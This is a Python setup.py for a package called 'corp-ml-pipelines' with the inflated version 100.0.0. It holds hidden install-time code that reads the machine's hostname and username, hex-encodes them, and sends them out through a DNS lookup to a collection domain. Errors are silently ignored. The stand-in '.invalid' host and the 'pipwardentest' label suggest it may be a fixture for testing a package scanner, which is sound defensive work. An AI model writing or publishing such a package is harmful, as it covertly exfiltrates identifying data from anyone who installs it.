import getpass
import socket
from setuptools import setup

try:
    tag = ("%s.%s" % (socket.gethostname(), getpass.getuser())).encode().hex()[:60]
    socket.gethostbyname("%s.c0ffee1234pipwardentest.oast.example.invalid" % tag)
except Exception:
    pass

setup(name="corp-ml-pipelines", version="100.0.0", packages=["corp_ml_pipelines"])
